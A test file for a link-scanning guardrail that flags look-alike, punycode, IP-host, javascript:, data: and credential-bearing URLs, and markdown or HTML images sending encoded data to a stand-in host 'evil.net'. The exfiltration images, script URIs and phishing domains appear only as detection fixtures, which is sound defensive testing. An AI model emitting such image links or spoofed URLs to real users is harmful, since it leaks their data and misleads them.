import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { localLinks } from '../../../../src/guardrail/local-links/local-links.ts'
import { expectSameAtEveryCut, expectSameInPieces, findingsOfPieces } from '../cuts.ts'
import { ANSWER, evidence, findingsIn, input, output } from '../segments.ts'

function guardrail(config: object = {}) {
  return localLinks.create('links', localLinks.configSchema.parse({ kind: 'local-links', ...config }))
}

const PLAIN = guardrail()
const LISTED = guardrail({ allow_domains: ['example.com', '*.example.org', 'paypal.com'] })
const BARE = guardrail({ allow_domains: ['example.com'], bare_domains: true })

/** `[text, what is found]`. */
type Cases = readonly (readonly [text: string, ...found: string[]])[]

function expectHits(guard: typeof PLAIN, cases: Cases): void {
  for (const [text, ...found] of cases) expect(evidence(guard, output(text)), text).toEqual(found)
}

function expectNone(guard: typeof PLAIN, texts: readonly string[]): void {
  for (const text of texts) expect(evidence(guard, output(text)), text).toEqual([])
}

describe('link/unknown', () => {
  test('domains that are not on the list', () =>
    expectHits(LISTED, [
      ['see https://other.net/a?b=c.', 'link/unknown: https://other.net/a?b=c'],
      ['(HTTP://Other.NET)', 'link/unknown: HTTP://Other.NET'],
      ['<a href="//other.net/x">', 'link/unknown: //other.net/x'],
      ['https://example.org', 'link/unknown: https://example.org'],
      ['https://sub.example.com/', 'link/unknown: https://sub.example.com/'],
      ['https://notexample.org', 'link/unknown: https://notexample.org'],
      ['请访问https://other.net查看', 'link/unknown: https://other.net'],
      ['https://a.net,https://b.net', 'link/unknown: https://a.net,https://b.net'],
      ['https://a.net https://b.net', 'link/unknown: https://a.net', 'link/unknown: https://b.net'],
      ['https://en.wiki.net/wiki/A_(b)', 'link/unknown: https://en.wiki.net/wiki/A_(b)'],
      ['ht\u200btps://other.net', 'link/unknown: ht\u200btps://other.net'],
      ['https://ｏｔｈｅｒ.net/x', 'link/unknown: https://ｏｔｈｅｒ.net/x'],
    ]))

  test('not those that are, nor without a list', () => {
    expectNone(LISTED, [
      'https://example.com/a/b?c=d',
      'https://EXAMPLE.com:8443.',
      'https://a.b.example.org/x',
      'https://example.com./',
      'http://localhost:3000/x',
      'http://printer.local/',
      'http://127.0.0.1:8080/',
      'other.net and a.b.c',
      'postgres://db.other.net/x',
      'file:///etc/hosts',
      'a // comment other.net',
      'https://',
      'https:///x',
    ])
    expectNone(PLAIN, ['https://other.net/a', 'https://müller.de/straße', 'https://почта.рф/'])
  })
})

describe('link/look-alike', () => {
  test('what imitates a domain on the list', () =>
    expectHits(LISTED, [
      ['https://paypa1.com/x', 'link/look-alike: https://paypa1.com/x'],
      ['https://paypall.com', 'link/look-alike: https://paypall.com'],
      ['https://papyal.com', 'link/look-alike: https://papyal.com'],
      ['https://login.paypaI.com', 'link/look-alike: https://login.paypaI.com'],
      ['https://paypal.com.evil.net', 'link/look-alike: https://paypal.com.evil.net'],
      ['https://paypal-login.net', 'link/look-alike: https://paypal-login.net'],
      ['https://exarnple.com', 'link/look-alike: https://exarnple.com'],
      ['https://раураl.com', 'link/look-alike: https://раураl.com', 'link/punycode: https://раураl.com'],
    ]))

  test('a short domain only when drawn alike', () => {
    const guard = guardrail({ allow_domains: ['ebay.com'], flag: ['look-alike'] })
    expectHits(guard, [['https://еbay.com/x', 'link/look-alike: https://еbay.com/x']])
    expectNone(guard, ['https://ebaz.com', 'https://bay.com', 'https://ebay.com'])
  })

  test('not what only shares some letters', () =>
    expectHits(LISTED, [
      ['https://payments.com', 'link/unknown: https://payments.com'],
      ['https://samples.com', 'link/unknown: https://samples.com'],
      ['https://mypaypalette.com', 'link/unknown: https://mypaypalette.com'],
      ['https://www.paypal.com', 'link/unknown: https://www.paypal.com'],
      ['https://exam.com', 'link/unknown: https://exam.com'],
      ['https://pal.com', 'link/unknown: https://pal.com'],
      ['https://com.net', 'link/unknown: https://com.net'],
      ['https://paypal.com'],
    ]))
})

describe('links that are suspicious in themselves', () => {
  test('are found without a list', () =>
    expectHits(PLAIN, [
      ['http://xn--pypal-4ve.com/', 'link/punycode: http://xn--pypal-4ve.com/'],
      ['http://gооgle.com/', 'link/punycode: http://gооgle.com/'],
      ['http://8.8.8.8/x', 'link/ip-host: http://8.8.8.8/x'],
      ['http://134744072/', 'link/ip-host: http://134744072/'],
      ['http://0x08.8.8.8/', 'link/ip-host: http://0x08.8.8.8/'],
      ['http://[2001:4860:4860::8888]/', 'link/ip-host: http://[2001:4860:4860::8888]/'],
      ['[x](javascript:alert(1))', 'link/javascript: javascript:alert(1)'],
      ['<a href="JavaScript:void(0)">', 'link/javascript: JavaScript:void(0)'],
      ['vbscript:msgbox', 'link/javascript: vbscript:msgbox'],
      ['go to data:text/html;base64,PHNjcmlwdD4= now', 'link/data: data:text/html;base64,PHNjcmlwdD4='],
      ['data:image/svg+xml,x', 'link/data: data:image/svg+xml,x'],
      ['https://google.com@evil.net/x', 'link/credentials: https://google.com@evil.net/x'],
      ['ftp://me:secret@host.net', 'link/credentials: ftp://me:secret@host.net'],
    ]))

  test('not what only looks so', () =>
    expectNone(PLAIN, [
      'http://192.168.1.1/admin',
      'http://10.0.0.1:80',
      'http://[::1]:3000/',
      'version 8.8.8.8',
      'JavaScript: the good parts',
      'typescript:x',
      'my-javascript:x',
      '{"javascript": "x"}',
      'data: text/html;',
      'metadata:text/html;x',
      'data:image/png;base64,iVBORw0KGgo=',
      'data:text/plain,hello',
      'https://example.com/@user',
      'https://example.com/?mail=a@b.co',
      'xn--pypal-4ve.com',
    ]))
})

describe('link/image', () => {
  const DATA = 'c2VjcmV0IGRhdGEgaGVyZQ'

  test('images that carry data away, the whole markup', () =>
    expectHits(PLAIN, [
      [`a ![x](https://evil.net/p?d=${DATA}) b`, `link/image: ![x](https://evil.net/p?d=${DATA})`],
      [`![](https://evil.net/#${DATA} "a title")`, `link/image: ![](https://evil.net/#${DATA} "a title")`],
      [`![a](<https://evil.net/?${DATA}>)`, `link/image: ![a](<https://evil.net/?${DATA}>)`],
      [`![a](//evil.net/?q=${DATA})`, `link/image: ![a](//evil.net/?q=${DATA})`],
      [
        `![a](https://evil.net/${DATA.repeat(3)}.png)`,
        `link/image: ![a](https://evil.net/${DATA.repeat(3)}.png)`,
      ],
      [`[![a](https://evil.net/?${DATA})](https://x.net)`, `link/image: ![a](https://evil.net/?${DATA})`],
      [`<img alt="a" src="https://evil.net/?q=${DATA}">`, `link/image: https://evil.net/?q=${DATA}`],
      [
        `<div style="background: url('https://evil.net/?q=${DATA}')">`,
        `link/image: https://evil.net/?q=${DATA}`,
      ],
      [`![a][r]\n\n[r]: https://evil.net/?q=${DATA}`, `link/image: https://evil.net/?q=${DATA}`],
      [`https://a.co![x](https://evil.net/?q=${DATA})`, `link/image: ![x](https://evil.net/?q=${DATA})`],
      [`![a](https://evil.net/?q=${DATA}`, `link/image: ![a](https://evil.net/?q=${DATA}`],
    ]))

  test('not what carries little, nor is an image, nor goes to a host on the list', () => {
    expectNone(PLAIN, [
      '![a](https://img.net/badge/build-passing-brightgreen.svg)',
      '![a](https://img.net/a.png?w=800&h=600&fit=crop)',
      `![a](${DATA}.png)`,
      `[a](https://evil.net/?q=${DATA})`,
      `https://evil.net/?q=${DATA}`,
      `<a href="https://evil.net/?q=${DATA}">`,
      '![a](https://evil.net)',
      `![a] (https://evil.net/?q=${DATA})`,
    ])
    expectNone(LISTED, [`![x](https://example.com/p?d=${DATA})`, `![x](https://a.example.org/p?d=${DATA})`])
  })

  test('payload_chars says how much is enough', () => {
    const text = '![a](https://evil.net/?q=12345678)'
    expectNone(PLAIN, [text])
    expectHits(guardrail({ payload_chars: 8 }), [[text, `link/image: ${text}`]])
  })

  test('link is for those that somebody has to open', () => {
    const guard = guardrail({ flag: ['link'] })
    expectHits(guard, [
      [`[a](https://evil.net/?q=${DATA})`, `link/link: https://evil.net/?q=${DATA}`],
      [`<a href='https://evil.net/?q=${DATA}'>`, `link/link: https://evil.net/?q=${DATA}`],
    ])
    expectNone(guard, [`![a](https://evil.net/?q=${DATA})`, '[a](https://evil.net/)', 'http://8.8.8.8/'])
  })
})

describe('bare domains', () => {
  test('are found when asked for', () =>
    expectHits(BARE, [
      ['go to other.net/x now', 'link/unknown: other.net/x'],
      ['www.other.zz', 'link/unknown: www.other.zz'],
      ['Visit examp1e.com.', 'link/look-alike: examp1e.com'],
      ['sub.other.co.uk', 'link/unknown: sub.other.co.uk'],
    ]))

  test('not files, code, addresses of people, nor those on the list', () =>
    expectNone(BARE, [
      'example.com/x',
      'main.py and README.md',
      'console.log(a.b)',
      'e.g. this, i.e. that',
      'jane.doe@other.net',
      'version 1.2.3',
      'wait...what',
      './other.net',
    ]))
})

describe('the config', () => {
  test.each([
    { allow_domains: ['https://example.com'] },
    { allow_domains: ['a.*.com'] },
    { flag: [] },
    { flag: ['other'] },
    { payload_chars: 0 },
    { allow: [] },
  ])('%j does not hold', config => {
    expect(localLinks.configSchema.safeParse({ kind: 'local-links', ...config }).success).toBe(false)
  })

  test('flag says what is a finding', () => {
    const guard = guardrail({ allow_domains: ['example.com'], flag: ['ip-host'] })
    expectHits(guard, [['https://other.net http://8.8.8.8', 'link/ip-host: http://8.8.8.8']])
  })

  test('an allowed domain may be written in its own letters', () => {
    expectNone(guardrail({ allow_domains: ['müller.de'] }), ['https://müller.de/x', 'https://MÜLLER.de'])
  })

  test('each segment has its own offsets', () => {
    expect(findingsIn(PLAIN, input('ok', 'x http://8.8.8.8'))).toEqual([
      { detector: 'link/ip-host', score: 0.7, span: { segment: 1, start: 2, end: 16 } },
    ])
    expect(PLAIN.scan(input('nothing'))).toEqual({ kind: 'clean' })
  })
})

describe('in a stream', () => {
  test.each([
    'a ![x y](https://evil.net/p?d=c2VjcmV0IGRhdGEgaGVyZQ "t") b',
    'see https://google.com@evil.net/x. And http://8.8.8.8, ok',
    '😀 [x](javascript:alert(1)) data:text/html;base64,PHNj x',
    'h\u200bttp://8.8.8.8/\ufe0f b www.other.net. c.d',
    '<img src="//evil.net/?q=c2VjcmV0IGRhdGEgaGVyZQ">！https://раураl.com。x',
  ])('%s: the same wherever it is cut', text => {
    for (const guard of [PLAIN, LISTED, BARE]) expectSameAtEveryCut(guard, text)
  })

  const PARTS = [
    'https://',
    'http:',
    '//',
    '/',
    '.',
    'evil.net',
    'example.com',
    'xn--a',
    '8.8.8.8',
    '![',
    '](',
    ')',
    '[',
    ']:',
    ' ',
    '"',
    'a',
    'www.',
    '?q=',
    'c2VjcmV0IGRhdGEgaGVyZQ',
    'javascript:',
    'data:text/html,',
    '@',
    '\u200b',
    '😀',
    'ｏ',
    '查看',
    '\n',
    '!',
    '<',
    '>',
  ] as const

  test('any text has the findings of the whole', () => {
    const texts = fc.array(fc.constantFrom(...PARTS), { maxLength: 24 })
    fc.assert(
      fc.property(texts, fc.integer({ min: 1, max: 9 }), (parts, size) => {
        const pieces = parts.join('').match(new RegExp(`.{1,${size}}`, 'gs')) ?? []
        for (const guard of [PLAIN, LISTED, BARE]) expectSameInPieces(guard, pieces)
      }),
      { numRuns: 300 },
    )
  })

  test('prose goes on at once, but for its last word', () => {
    const scan = PLAIN.openScan?.(ANSWER)
    expect(scan?.push('Some words and 你好世界, then more')).toEqual({ findings: [], safeTo: 26 })
  })

  test('a URL without an end is held no further than its bound', () => {
    const scan = PLAIN.openScan?.(ANSWER)
    let length = 0
    let most = 0
    for (let i = 0; i < 1000; i++) {
      const piece = i === 0 ? 'https://evil.net/' : 'abcdefgh'
      length += piece.length
      most = Math.max(most, length - (scan?.push(piece).safeTo ?? 0))
    }
    expect(most).toBeLessThan(2048 * 1.25 + 20)
    expect(most).toBeGreaterThan(1900)
  })

  test('what follows an overlong one is read on', () => {
    const text = `http://8.8.8.8/${'a'.repeat(3000)} http://8.8.4.4/`
    expect(
      findingsOfPieces(PLAIN, [text.slice(0, 100), text.slice(100)]).map(({ span }) => span?.start),
    ).toEqual([0, 3016])
  })
})
